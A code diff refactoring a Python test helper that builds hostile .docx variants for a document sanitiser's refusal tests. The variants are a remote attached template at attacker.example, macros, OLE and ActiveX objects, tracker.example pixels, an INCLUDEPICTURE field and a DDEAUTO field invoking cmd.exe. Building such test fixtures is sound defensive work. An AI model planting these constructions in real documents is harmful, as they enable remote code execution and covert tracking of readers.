@@ -57,7 +57,7 @@ def _rels(*relationships: tuple[str, str, str, bool]) -> str:
         + "/>"
         for rid, kind, target, external in relationships
     )
-    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PACKAGE_RELS}">{rows}</Relationships>'
+    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}">{rows}</Relationships>'
 
 
 def _with(content: bytes, *, add: dict | None = None, edit: dict | None = None) -> bytes:
@@ -91,32 +91,35 @@ def _field_run(*parts: str) -> str:
             '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')  # fmt: skip
 
 
+VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+MACRO_ENABLED = {"[Content_Types].xml": lambda t: t.replace("document.main+xml", "document.macroEnabled.main+xml")}
+TEMPLATE_IN_SETTINGS = {"word/settings.xml": lambda t: t.replace("<w:zoom", '<w:attachedTemplate r:id="rId1"/><w:zoom')}
+INCLUDEPICTURE = "<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://tracker.example/p.png\" \\d '/></w:p>"
+
+
 def _hostile(case: str) -> bytes:
-    clean = clean_letterhead()
-    settings_rel = _rels(("rId1", f"{REL}/attachedTemplate", "http://attacker.example/t.dotm", True))
+    template = _rels(("rId1", f"{REL}/attachedTemplate", "http://attacker.example/t.dotm", True))
+    font = _rels(("rId1", f"{REL}/font", "fonts/font1.odttf", False))
     cases = {
-        "attached template": dict(
-            add={"word/_rels/settings.xml.rels": settings_rel},
-            edit={"word/settings.xml": lambda t: t.replace("<w:zoom", '<w:attachedTemplate r:id="rId1"/><w:zoom', 1)},
+        "attached template": dict(add={"word/_rels/settings.xml.rels": template}, edit=TEMPLATE_IN_SETTINGS),
+        "altChunk": dict(add={"word/afchunk.mht": "MIME"}, edit=_document_rel(f"{REL}/aFChunk", "afchunk.mht")),
+        "OLE object": dict(
+            add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
+            edit=_document_rel(f"{REL}/oleObject", "embeddings/oleObject1.bin"),
         ),
-        "altChunk": dict(add={"word/afchunk.mht": "MIME-Version: 1.0"}, edit=_document_rel(f"{REL}/aFChunk", "afchunk.mht")),
-        "OLE object": dict(add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
-                           edit=_document_rel(f"{REL}/oleObject", "embeddings/oleObject1.bin")),
-        "ActiveX": dict(add={"word/activeX/activeX1.xml": "<ax/>"}, edit=_document_rel(f"{REL}/control", "activeX/activeX1.xml")),
+        "ActiveX": dict(
+            add={"word/activeX/activeX1.xml": "<ax/>"}, edit=_document_rel(f"{REL}/control", "activeX/activeX1.xml")
+        ),
         "macros": dict(
-            add={"word/vbaProject.bin": b"\0macro"},
-            edit={**_document_rel("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
-                  "[Content_Types].xml": lambda t: t.replace("document.main+xml", "document.macroEnabled.main+xml")},
+            add={"word/vbaProject.bin": b"\0macro"}, edit=_document_rel(VBA, "vbaProject.bin") | MACRO_ENABLED
         ),
-        "embedded font": dict(add={"word/fonts/font1.odttf": b"\0font",
-                                   "word/_rels/fontTable.xml.rels": _rels(("rId1", f"{REL}/font", "fonts/font1.odttf", False))}),
+        "embedded font": dict(add={"word/fonts/font1.odttf": b"\0font", "word/_rels/fontTable.xml.rels": font}),
         "sub-document": dict(edit=_document_rel(f"{REL}/subDocument", "file:///C:/x.docx", external=True)),
         "remote picture": dict(edit=_document_rel(f"{REL}/image", "http://tracker.example/pixel.png", external=True)),
-        "INCLUDEPICTURE field": dict(edit=_in_body(
-            f'<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://tracker.example/p.png" \\d \'/></w:p>')),
+        "INCLUDEPICTURE field": dict(edit=_in_body(INCLUDEPICTURE)),
         "DDEAUTO field split over runs": dict(edit=_in_body(_field_run("DDE", "AUTO c:\\\\windows\\\\cmd.exe"))),
-    }  # fmt: skip
-    return _with(clean, **cases[case])
+    }
+    return _with(clean_letterhead(), **cases[case])
 
 
 #: What each hostile letterhead's refusal must name.
